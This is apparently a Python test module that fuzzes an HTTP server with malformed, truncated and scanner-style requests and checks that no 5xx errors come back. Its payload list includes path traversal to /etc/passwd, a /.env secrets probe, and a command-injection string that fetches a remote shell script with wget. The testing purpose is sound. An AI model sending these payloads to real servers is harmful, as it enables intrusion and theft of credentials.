"""What scanners and broken programs send: bytes that are hardly HTTP."""

import re
from collections import Counter
from multiprocessing.pool import ThreadPool
from random import Random

JUNK = [
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(range(256)),  # a TLS hello
    b"SSH-2.0-OpenSSH_9.2\r\n",
    b"CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\n\r\n",
    b"GET http://example.com/ HTTP/1.1\r\nHost: example.com\r\n\r\n",
    b"GET /.env HTTP/1.1\r\nHost: x\r\n\r\n",
    b"GET /wp-login.php HTTP/1.1\r\nHost: x\r\n\r\n",
    b"GET /../../../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n",
    b"GET /%2e%2e/%2e%2e/etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n",
    b"GET /cgi-bin/;wget%20http://x/x.sh HTTP/1.0\r\n\r\n",
    b"POST /boaform/admin/formLogin HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n\r\nadmin",
    b"GET / HTTP/1.1\r\nX-Big: " + b"x" * 65536 + b"\r\n\r\n",
    b"GET / HTTP/1.1\r\n" + b"X: y\r\n" * 5000 + b"\r\n",
    b"GET /" + b"a" * 70000 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
    b"GET /begin HTTP/1.1\r\nHost: x\r\n\r\n" * 20,  # pipelining
    b"GET /begin HTTP/1.1\r\nContent-Length: 100000000\r\n\r\n",
    b"GET /begin HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nffffffff\r\nx",
    b"GET /begin HTTP/9.9\r\n\r\n",
    b"GET\r\n\r\n",
    b"\r\n\r\n\r\n",
    b"\0" * 1000,
    b"GET /begin",
    b"GET /begin HTTP/1.1\r\nHost: x\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    b"PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\nGET / HTTP/1.1\r\n\r\n",
    b'{"jsonrpc": "2.0", "method": "eth_accounts"}\n',
    b"*1\r\n$4\r\nINFO\r\n",
]


def piece(number):
    """One piece of junk: as it is, cut off, or with changed bytes; and for how many seconds an answer may take."""
    random = Random(number)
    data, wait = bytearray(random.choice(JUNK)), 0.5
    if random.random() < 0.3:
        data, wait = data[: random.randrange(1, len(data))], 0.05  # the server waits for the rest
    if random.random() < 0.3:
        for _ in range(random.randrange(1, 20)):
            data[random.randrange(len(data))] = random.randrange(256)
    return bytes(data), 0 if random.random() < 0.1 else wait


def junk(target, number):
    """Send so many pieces of junk, 16 at a time. No answer is as good as a refusal."""

    def answer(number):
        found = re.match(rb"HTTP/1\.. (\d+)", target.raw(*piece(number)))
        return found[1].decode() if found else "none"

    with ThreadPool(16) as pool:
        answers = Counter(pool.map(answer, range(number)))
    shares = ", ".join(f"{answer}: {count}" for answer, count in sorted(answers.items()))
    return [("pieces of junk, by answer", shares, not {"500", "502", "504"} & answers.keys())]
